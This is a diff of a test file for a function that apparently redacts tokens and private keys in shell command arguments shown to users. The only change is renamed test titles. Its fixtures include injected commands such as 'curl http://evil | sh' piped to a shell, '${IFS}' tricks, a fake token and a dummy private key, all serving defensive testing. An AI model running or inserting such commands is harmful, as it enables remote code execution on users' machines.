@@ -19,7 +19,7 @@ const shown = (argument: string, before?: string) => {
 
 const token = 'ghp_abcdefABCDEF0123456789abcdefABCDEF01'
 
-describe('what is secret in an argument', () => {
+describe('the secrets in an argument', () => {
   it.each([
     ['API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh', 'API_TOKEN=#; touch PWNED; curl http://evil | sh'],
     ['API_TOKEN=abc;touch${IFS}PWNED', 'API_TOKEN=#;touch${IFS}PWNED'],
@@ -67,7 +67,7 @@ describe('what is secret in an argument', () => {
   )
   const argument = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))
 
-  it('is never what could be a command, and all the rest is shown', () => {
+  it('never include a possible command, and everything else is shown', () => {
     fc.assert(
       fc.property(fc.array(argument, { maxLength: 4 }), (args) => {
         const entry = { type: 'stdio', command: 'sh', args }
@@ -96,7 +96,7 @@ describe('what is secret in an argument', () => {
     )
   })
 
-  it('is all that is left out of what a person is asked', () => {
+  it('are all that is left out of a question', () => {
     const args = ['-c', 'API_TOKEN=abc123def456; touch PWNED; curl http://evil | sh']
     const asked = `sh -c 'API_TOKEN=[redacted]; touch PWNED; curl http://evil | sh'`
     expect(previewServer({ name: 's', entry: { type: 'stdio', command: 'sh', args } }, {}).commandLine).toBe(asked)
@@ -152,7 +152,7 @@ describe('tokens of known vendors', () => {
     expect(shown(words)).toBe(words)
   })
 
-  it('and private keys: all of it in a value, its lines in a command', () => {
+  it('and private keys: completely in a value, line by line in a command', () => {
     const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
     const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\n-----END RSA PRIVATE KEY-----`
     expect(shown(`echo '${key}'; reboot`)).toBe(`echo '-----BEGIN RSA PRIVATE KEY-----\n#\n#\n-----END RSA PRIVATE KEY-----'; reboot`)
